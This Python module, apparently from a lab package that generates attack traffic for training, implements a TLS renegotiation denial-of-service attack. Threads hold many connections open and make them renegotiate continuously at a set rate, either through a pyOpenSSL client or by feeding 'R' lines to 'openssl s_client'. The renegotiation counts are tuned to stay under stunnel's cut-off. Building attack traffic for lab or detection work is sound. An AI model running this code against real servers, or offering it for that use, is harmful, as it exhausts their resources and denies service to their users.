"""TLS renegotiation without end, over pyOpenSSL or with the openssl program, at a rate.

Only `trainer.lab.attacks` calls it, after it has made sure of where it runs.
"""

import contextlib
import random
import socket
import subprocess
import threading
import time

from trainer.lab.attack_report import AttackReport, Connection
from trainer.lab.floods import HIGH_PORT, LOW_PORT
from trainer.lab.plan import Attack
from trainer.lab.tls import RenegotiatingClient

_QUIET_RENEGOTIATIONS = 25
"""stunnel gives a connection up after some 50 renegotiations without data between them."""
_MIXED_RENEGOTIATIONS = 5
_REQUEST = b"GET /300 HTTP/1.1\r\nHost: lab.example.net\r\n\r\n"
_SHORTEST_S = 2.0
"""Time that every connection gets, whatever `reconnects` says."""
_TOOL_CONNECTS_S = 0.6
_TOOL_SETTLES_S = 0.25
"""s_client gives up when an answer arrives while it renegotiates."""


def ssl_renegotiation(attack: Attack, report: AttackReport, far_s: float = 0.0) -> None:
    """Keeps some connections renegotiating until the attack's time is over.

    Args:
        attack: to be made.
        report: of it.
        far_s: the longest round trip to the victim, for which s_client has to be waited for.
    """
    rng = random.Random(attack.seed)
    end = time.monotonic() + attack.seconds
    threads = [
        threading.Thread(
            target=_keep_going,
            args=(attack, report, random.Random(rng.getrandbits(32)), end, far_s),
            daemon=True,
        )
        for _ in range(int(attack.settings["connections"]))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _keep_going(
    attack: Attack, report: AttackReport, rng: random.Random, end: float, far_s: float
) -> None:
    """One connection after the other; a server that closes one is called again."""
    lasts_s = max(_SHORTEST_S, attack.seconds / (int(attack.settings["reconnects"]) + 1))
    too_short_s = min(_SHORTEST_S, attack.seconds) / 2
    while report.packets < attack.packets and (left := end - time.monotonic()) > too_short_s:
        with contextlib.suppress(OSError):
            until = time.monotonic() + min(left, lasts_s)
            if attack.settings["tool"] == "s_client":
                _with_tool(attack, report, rng, until, far_s)
            else:
                _with_library(attack, report, rng, until)
        time.sleep(0.02)


def _quiet_for(attack: Attack) -> int:
    mixed = attack.settings["mixed"] == "yes"
    return _MIXED_RENEGOTIATIONS if mixed else _QUIET_RENEGOTIATIONS


def _interval_s(attack: Attack, rng: random.Random) -> float:
    """Time to the connection's next renegotiation."""
    mean_s: float = attack.settings["connections"] / attack.settings["rate"]
    return mean_s * rng.uniform(0.6, 1.4)


def _with_library(attack: Attack, report: AttackReport, rng: random.Random, until: float) -> None:
    with socket.socket() as connection:
        connection.settimeout(5)
        connection.bind(("", 0))
        entry = report.connected(connection.getsockname()[1])
        try:
            connection.connect((attack.victim, attack.port))
            client = RenegotiatingClient(connection, rng)
            while client.packets < attack.settings["onset"] and time.monotonic() < until:
                client.exchange(rng.randint(20, 1500))
                time.sleep(rng.uniform(0, 0.02))
            due = time.monotonic()
            while time.monotonic() < until and report.packets < attack.packets:
                if not entry.count:
                    entry.onset, entry.onset_packets = time.time(), client.packets
                client.renegotiate()
                entry.count += 1
                report.sent()
                if entry.count % _quiet_for(attack) == 2:
                    client.exchange(rng.randint(20, 400))
                due += _interval_s(attack, rng)
                time.sleep(max(0.0, min(due, until) - time.monotonic()))
            client.close()
        except OSError as error:
            entry.error = str(error)
            raise


def _with_tool(
    attack: Attack, report: AttackReport, rng: random.Random, until: float, far_s: float
) -> None:
    """A line R makes `openssl s_client` renegotiate, every other line is sent.

    It reads a line whenever it has nothing else to do, so what it says is counted, not the lines.
    """
    port = rng.randint(LOW_PORT, HIGH_PORT)
    entry = report.connected(port)
    with subprocess.Popen(
        [
            *("openssl", "s_client", "-tls1_2", "-bind", f"0.0.0.0:{port}"),
            *("-connect", f"{attack.victim}:{attack.port}"),
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        bufsize=0,
    ) as tool:
        assert tool.stdin is not None
        assert tool.stdout is not None
        listener = threading.Thread(target=_count, args=(tool, report, entry), daemon=True)
        listener.start()
        try:
            # TCP and a full handshake of TLS 1.2 take three round trips, a renegotiation two.
            time.sleep(_TOOL_CONNECTS_S + 3 * far_s)
            for _ in range(1 + int(attack.settings["onset"]) // 3):  # request, answer, and its ACK
                tool.stdin.write(_REQUEST)
                time.sleep(rng.uniform(0.01, 0.03))
            time.sleep(_TOOL_SETTLES_S + far_s)
            lines = 0
            while time.monotonic() < until and report.packets < attack.packets:
                tool.stdin.write(b"R\n")
                lines += 1
                time.sleep(_interval_s(attack, rng))
                if lines % _quiet_for(attack) == 0:
                    time.sleep(_TOOL_SETTLES_S + 2 * far_s)
                    tool.stdin.write(_REQUEST)
                    time.sleep(_TOOL_SETTLES_S + far_s)
        except OSError as error:
            entry.error = str(error)
        finally:
            tool.kill()
            listener.join()


def _count(tool: "subprocess.Popen[bytes]", report: AttackReport, entry: Connection) -> None:
    assert tool.stdout is not None
    for line in tool.stdout:
        if line.startswith(b"RENEGOTIATING"):
            entry.onset = entry.onset or time.time()
            entry.count += 1
            report.sent()
